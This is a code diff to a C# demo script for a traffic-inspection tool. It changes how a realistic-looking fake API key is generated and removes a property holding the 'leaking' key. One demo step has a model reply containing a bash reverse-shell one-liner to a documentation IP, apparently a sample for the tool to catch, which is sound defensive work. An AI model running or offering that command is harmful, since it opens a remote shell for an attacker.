@@ -1,4 +1,3 @@
-using System.Buffers.Text;
 using System.Security.Cryptography;
 
 namespace TrafficGuardian.Cli.Demo;
@@ -9,10 +8,12 @@ internal sealed class DemoScript
     /// <summary>The made-up model API, where the demo's key belongs.</summary>
     public const string ModelHost = "api.model.example";
 
+    // No vowels and no x: chance must not spell a word that marks a placeholder, such as "fake" or "xxxx".
+    private const string KeyCharacters = "BCDFGHJKLMNPQRSTVWZbcdfghjkmnpqrstvwz23456789";
+
     public DemoScript()
     {
-        // 69 random bytes are 92 characters: with the letter before and the suffix, the shape of a real key.
-        var key = $"sk-ant-api03-x{Base64Url.EncodeToString(RandomNumberGenerator.GetBytes(69))}AA";
+        var key = $"sk-ant-api03-{RandomNumberGenerator.GetString(KeyCharacters, 93)}AA";
         Steps =
         [
             Call("a question to the model API, with its key where it belongs") with { ApiKey = key, Body = Question("How is the weather?") },
@@ -31,11 +32,7 @@ internal sealed class DemoScript
                 Reply = "Fixed it for me:\n\n    bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
             },
         ];
-        Key = key;
     }
-
-    /// <summary>The key that leaks.</summary>
-    internal string Key { get; }
 
     public IReadOnlyList<DemoStep> Steps { get; }
 
